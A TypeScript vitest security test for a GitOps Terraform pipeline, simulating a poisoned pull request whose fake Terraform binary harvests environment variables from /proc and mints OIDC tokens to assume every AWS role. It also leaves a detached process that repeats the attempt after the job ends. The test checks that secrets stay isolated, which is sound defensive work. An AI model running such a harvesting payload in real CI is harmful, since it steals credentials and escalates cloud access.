import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startLocalAws, type LocalAws } from '@sagemaker-gitops/local-aws';
import type { Actor } from '@sagemaker-gitops/local-github';
import { z } from 'zod';
import { TEAM_ENVIRONMENTS } from '../../testing/sample-team/team.ts';
import { hostOwnRepository, type OwnRepository } from '../../workflows/testing/own-repository.ts';
import { assumeRoleAt } from './assume-role.ts';
import { renderRoles } from './roles.ts';
import { createWebIdentity } from './web-identity.ts';

// It starts several processes, on a machine that may be busy.
vi.setConfig({ testTimeout: 180_000, hookTimeout: 180_000 });

const MALLORY: Actor = { login: 'mallory', id: 13, type: 'User', startsWorkflows: true };
const APP_KEY = 'the-key-of-the-app';
const WEBHOOK_SECRET = 'the-secret-of-the-webhook';
const PLAN_ROLE = 'arn:aws:iam::210987654321:role/scoring-plan';

/** What the provider's code found, while its job ran and after. */
const lootSchema = z.object({
  job: z.string(),
  environs: z.array(z.record(z.string(), z.string())),
  taken: z.array(z.string()),
  refused: z.array(z.string()),
});

/**
 * Code of a provider: reads the environment of every process of its machine, mints tokens with what it finds there, and
 * asks for each role. It leaves a process in a session of its own that does the same once the machine is gone.
 */
const provider = (roles: readonly string[], sts: string, folder: string): string => `#!${process.execPath}
const fs = require('node:fs');
const { spawn } = require('node:child_process');
const isLeft = process.argv[2] === 'left';
const read = (pid) => {
  try {
    const lines = fs.readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').filter((line) => line.includes('='));
    return Object.fromEntries(lines.map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]));
  } catch { return {}; }
};
// This machine runs the tests too: a machine of GitHub has the processes of its job alone.
const parent = isLeft ? JSON.parse(fs.readFileSync(process.argv[3], 'utf8')) : read(process.ppid);
const mine = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).map(read)
  .filter((one) => one.GITHUB_WORKSPACE !== undefined && one.GITHUB_WORKSPACE === parent.GITHUB_WORKSPACE);
async function plunder(name) {
  const loot = { job: parent.GITHUB_JOB, environs: [parent, ...mine], taken: [], refused: [] };
  const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer } = parent;
  for (const role of ${JSON.stringify(roles)}) {
    const answer = await fetch(url + '&audience=sts.amazonaws.com', { headers: { authorization: 'bearer ' + bearer } });
    const { value } = await answer.json();
    const query = new URLSearchParams({ Action: 'AssumeRoleWithWebIdentity', Version: '2011-06-15', RoleArn: role,
      RoleSessionName: 'mallory', WebIdentityToken: value });
    const { status } = await fetch(${JSON.stringify(sts)}, { method: 'POST', body: query });
    loot[status === 200 ? 'taken' : 'refused'].push(role);
  }
  fs.writeFileSync(${JSON.stringify(folder)} + '/' + name, JSON.stringify(loot));
}
if (isLeft) {
  const timer = setInterval(() => {
    if (fs.existsSync(parent.GITHUB_WORKSPACE)) return;
    clearInterval(timer);
    plunder('after.json');
  }, 50);
} else if (process.argv[2] === 'plan') {
  const file = ${JSON.stringify(folder)} + '/parent.json';
  fs.writeFileSync(file, JSON.stringify(parent));
  spawn(process.execPath, [__filename, 'left', file], { detached: true, stdio: 'ignore' }).unref();
  plunder('during.json').then(() => process.exit(1));
} else if (process.argv[2] === 'version') {
  console.log(JSON.stringify({ terraform_version: '1.11.4', provider_selections: {} }));
}
`;

/** A writer's pull request whose Terraform is theirs. Linux alone shows the environment of other processes. */
describe.runIf(process.platform === 'linux')(
  'a provider that looks around in the job that plans a pull request',
  () => {
    let folder: string;
    let aws: LocalAws;
    let place: OwnRepository;
    let all: readonly string[];

    beforeAll(async () => {
      folder = await mkdtemp(path.join(tmpdir(), 'poisoned-plan-'));
      const identity: { current?: ReturnType<typeof createWebIdentity> } = {};
      aws = await startLocalAws({
        logDirectory: folder,
        launcher: 'process',
        webIdentity: {
          authorize: async (request) =>
            await (identity.current ?? expect.fail('nobody is known yet')).authorize(request),
        },
      });
      place = await hostOwnRepository({
        secrets: { WEBHOOK_SECRET },
        environmentSecrets: { automation: { APP_PRIVATE_KEY: APP_KEY } },
        assumeRole: assumeRoleAt(aws.url, aws.region),
      });
      const environments = Object.entries(TEAM_ENVIRONMENTS).map(([name, one]) => ({
        ...{ name, service: one.service, account: one.account, region: one.region },
        replay: {},
      }));
      const roles = renderRoles({ environments, github: { owner: 'octo-org', repository: 'models' } });
      identity.current = createWebIdentity(place.github.serverUrl, roles);
      all = [...roles.keys()];
      const terraform = path.join(place.commands.folder, 'terraform');
      await writeFile(terraform, provider(all, aws.url, folder));
      await chmod(terraform, 0o755);
      const file = 'environments/trial/environment.json';
      const text = await readFile(path.join(place.clone, file), 'utf8');
      await place.push(MALLORY, 'topic', { [file]: text.replace('"logRetentionDays": 30', '"logRetentionDays": 7') });
      await place.call(MALLORY, 'POST', 'pulls', { head: 'topic', base: 'main', title: 'Keep logs for a week' });
      await place.runner.idle();
    });
    afterAll(async () => {
      await place.close();
      await aws.close();
      await rm(folder, { recursive: true });
    });

    const loot = async (name: string): Promise<z.infer<typeof lootSchema>> =>
      await vi.waitFor(async () => lootSchema.parse(JSON.parse(await readFile(path.join(folder, name), 'utf8'))), {
        timeout: 30_000,
        interval: 100,
      });

    it('finds no secret but the session of the role that reads', async () => {
      const { job, environs } = await loot('during.json');
      expect(job).toBe('plan');
      const values = environs.flatMap((one) => Object.values(one)).join('\n');
      for (const secret of [APP_KEY, WEBHOOK_SECRET, 'ghs_']) expect(values).not.toContain(secret);
      const keys = [...new Set(environs.flatMap((one) => Object.keys(one)))];
      const secrets = keys.filter((key) => /TOKEN|SECRET|KEY|PASSWORD/i.test(key) && !key.startsWith('npm_'));
      expect(secrets.sort()).toEqual([
        'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
        'ACTIONS_ID_TOKEN_REQUEST_URL',
        'AWS_ACCESS_KEY_ID',
        'AWS_SECRET_ACCESS_KEY',
        'AWS_SESSION_TOKEN',
      ]);
    });

    it.each(['during.json', 'after.json'])('gets no other role with the tokens that it mints (%s)', async (name) => {
      const { taken, refused } = await loot(name);
      // The role of the other service, in an account of its own, trusts the same pull requests.
      expect(taken).toEqual([PLAN_ROLE, 'arn:aws:iam::321098765432:role/labelling-plan']);
      expect([...taken, ...refused].sort()).toEqual([...all].sort());
    });

    it('stops the plan, and Gate with it', () => {
      expect(place.results()).toMatchObject({ plan: 'failure', gate: 'failure' });
    });
  },
);
